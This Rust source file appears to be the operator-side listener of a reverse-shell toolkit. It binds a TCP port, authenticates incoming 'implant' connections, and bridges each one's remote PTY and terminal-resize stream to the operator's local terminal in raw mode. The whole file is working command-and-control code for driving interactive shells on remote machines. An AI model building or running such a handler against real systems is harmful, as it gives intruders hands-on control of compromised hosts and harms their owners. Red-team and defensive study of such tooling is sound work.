//! Accepts implant connections and bridges each one, in turn, to the
//! operator's local terminal.

use std::fmt;

use rshell_core::{CancelToken, ServerSession, StreamKind};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio_util::compat::FuturesAsyncReadCompatExt;

use crate::raw_mode::RawModeGuard;
use crate::resize_emitter;

/// Errors from [`run`].
#[derive(Debug)]
pub enum DriverError {
    Bind(std::io::Error),
}

impl fmt::Display for DriverError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Bind(e) => write!(f, "could not bind listener: {e}"),
        }
    }
}

impl std::error::Error for DriverError {}

/// Bind `addr` and, one connection at a time, hand the operator's
/// terminal to whichever implant connects.
pub async fn run(addr: &str, password: &str) -> Result<(), DriverError> {
    let listener = TcpListener::bind(addr).await.map_err(DriverError::Bind)?;
    log::info!("listening on {addr}");

    loop {
        let (stream, peer) = match listener.accept().await {
            Ok(pair) => pair,
            Err(e) => {
                log::warn!("accept failed: {e}");
                continue;
            }
        };
        log::info!("connection from {peer}");

        if let Err(e) = handle_session(stream, password).await {
            log::warn!("session with {peer} ended with an error: {e}");
        }
        log::info!("session with {peer} ended");
    }
}

async fn handle_session(
    stream: tokio::net::TcpStream,
    password: &str,
) -> Result<(), Box<dyn std::error::Error>> {
    let transport = rshell_proto::establish(stream, password).await?;
    let mut session = ServerSession::new(transport);

    let mut pty_stream = None;
    let mut control_stream = None;
    while pty_stream.is_none() || control_stream.is_none() {
        match session.accept_stream().await? {
            Some((StreamKind::Pty, s)) => pty_stream = Some(s),
            Some((StreamKind::ResizeControl, s)) => control_stream = Some(s),
            None => return Err("implant closed the connection before opening both streams".into()),
        }
    }
    let pty_stream = pty_stream.unwrap();
    let control_stream = control_stream.unwrap().compat();

    let guard = RawModeGuard::enable()?;
    let cancel = CancelToken::new();

    let resize_task = tokio::spawn(resize_emitter::run(control_stream, cancel.clone()));

    let (mut pty_read, mut pty_write) = futures::io::AsyncReadExt::split(pty_stream);

    let to_shell = {
        let cancel = cancel.clone();
        async move {
            use futures::io::AsyncWriteExt as _;
            let mut stdin = tokio::io::stdin();
            let mut buf = [0u8; 4096];
            loop {
                let n = match stdin.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(n) => n,
                };
                if pty_write.write_all(&buf[..n]).await.is_err() {
                    break;
                }
            }
            cancel.cancel();
        }
    };

    let from_shell = {
        let cancel = cancel.clone();
        async move {
            use futures::io::AsyncReadExt as _;
            let mut stdout = tokio::io::stdout();
            let mut buf = [0u8; 4096];
            loop {
                let n = match pty_read.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(n) => n,
                };
                if stdout.write_all(&buf[..n]).await.is_err() {
                    break;
                }
                let _ = stdout.flush().await;
            }
            cancel.cancel();
        }
    };

    tokio::select! {
        _ = to_shell => {}
        _ = from_shell => {}
        _ = cancel.cancelled() => {}
    }

    resize_task.abort();
    drop(guard);
    Ok(())
}
